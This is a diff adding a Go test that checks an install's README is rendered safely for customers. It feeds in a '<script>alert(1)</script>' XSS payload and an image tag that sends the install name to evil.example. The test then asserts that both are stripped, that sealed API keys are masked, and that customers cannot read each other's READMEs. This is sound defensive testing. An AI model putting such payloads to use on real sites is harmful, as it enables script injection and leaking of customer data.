@@ -359,3 +359,39 @@ func TestJobsOfRunner(t *testing.T) {
 		t.Errorf("an operator of another install: %v %s", err, got.Body)
 	}
 }
+
+func TestReadmeOfInstall(t *testing.T) {
+	t.Parallel()
+	d := newDoor(t)
+	admin := d.org("initech")
+	folder := with(hello(), "README.md", "# {{ .nuon.name }} says {{ .nuon.inputs.inputs.greeting }}\n\nKey: {{ .nuon.inputs.inputs.api_key }}\n\n<nuon-component-card name=\"api\"></nuon-component-card>\n\n<img src=\"https://evil.example/{{ .nuon.name }}\">\n")
+	folder = with(folder, "metadata.toml", "version = \"v2\"\ndisplay_name = \"Hello\"\nreadme = \"./README.md\"\n")
+	admin.released("hello", folder)
+	admin.live("hello", "acme", "globex")
+	customer := admin.member(ctlapi.MemberRequest{Name: "carl", Kind: ctlapi.MemberRequestKindUser, Role: ctlapi.MemberRequestRoleCustomer, Customer: new("customer-of-acme")})
+	early, err := customer.GetInstallReadmeWithResponse(t.Context(), "acme")
+	problemOf(t, early, err, http.StatusConflict, "no_state")
+	tree := `{"name": "acme", "inputs": {"inputs": {"greeting": "<script>alert(1)</script>", "api_key": {"$sealed": "c2VjcmV0"}}}}`
+	d.sql(`insert into state_versions (org_id, install_id, version, inputs_version, tree, cause) select org_id, id, 1, 1, $1::jsonb, 'test' from installs where name = 'acme'`, tree)
+	d.sql(`update installs set state_version = 1 where name = 'acme'`)
+	d.sql(`insert into state_versions (org_id, install_id, version, inputs_version, tree, cause) select org_id, id, 1, 1, '{"name": "globex"}', 'test' from installs where name = 'globex'`)
+	d.sql(`update installs set state_version = 1 where name = 'globex'`)
+	got, err := customer.GetInstallReadmeWithResponse(t.Context(), "acme")
+	must(t, got, err, http.StatusOK)
+	for _, bad := range []string{"<script", "<img", "evil.example"} {
+		if strings.Contains(got.JSON200.HTML, bad) {
+			t.Errorf("the HTML has %q: %s", bad, got.JSON200.HTML)
+		}
+	}
+	if !strings.Contains(got.JSON200.HTML, "<p>Key: (sealed)</p>") || strings.Contains(string(got.Body), "c2VjcmV0") {
+		t.Errorf("a sensitive value: %s", got.Body)
+	}
+	if w := got.JSON200.Widgets; len(w) != 1 || w[0].Type != "component-card" || w[0].Resource == nil || w[0].Resource.Name != "api" || *w[0].Resource.State != "absent" {
+		t.Errorf("widgets: %s", got.Body)
+	}
+	broken, err := admin.GetInstallReadmeWithResponse(t.Context(), "globex")
+	problemOf(t, broken, err, http.StatusUnprocessableEntity, "readme_not_rendered")
+	if other, err := customer.GetInstallReadmeWithResponse(t.Context(), "globex"); err != nil || other.StatusCode() != http.StatusNotFound {
+		t.Errorf("a customer reads another's README: %v %s", err, other.Body)
+	}
+}
